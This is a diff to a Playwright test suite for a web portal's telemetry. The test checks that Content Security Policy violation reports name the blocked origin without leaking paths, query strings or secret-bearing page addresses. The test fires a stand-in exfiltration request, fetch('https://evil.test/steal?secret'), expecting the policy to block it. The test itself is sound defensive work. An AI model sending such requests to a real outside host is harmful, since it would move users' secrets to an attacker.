@@ -129,11 +129,25 @@ test.describe('Telemetry', () => {
       expect(collector.bytes()).not.toContain(demo.username)
     })
 
-    test('reports an address that the policy of the page has blocked', async ({ page, collector }) => {
+    test('reports what the policy of a page has blocked, but nothing of a page with a secret in its address', async ({
+      page,
+      collector,
+    }) => {
       await page.goto('/sign-in')
-      await page.evaluate(() => fetch('https://evil.test/steal?secret').catch(() => undefined))
+      const block = (path: string, address: string) =>
+        page.evaluate(
+          async ([path, address]) => {
+            history.replaceState(null, '', path)
+            const blocked = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve))
+            await Promise.all([blocked, fetch(address ?? '').catch(() => undefined)])
+          },
+          [path, address],
+        )
+      await block('/magic-link/demo-travel', 'https://unseen.test')
+      await block('/sign-in', 'https://evil.test/steal?secret')
       await expect.poll(() => collector.bytes()).toMatch(/portal\.policy\.violated.*connect-src.*https:\/\/evil\.test"/)
       expect(collector.bytes()).not.toContain('steal')
+      expect(collector.bytes()).not.toContain('unseen.test')
     })
   })
 
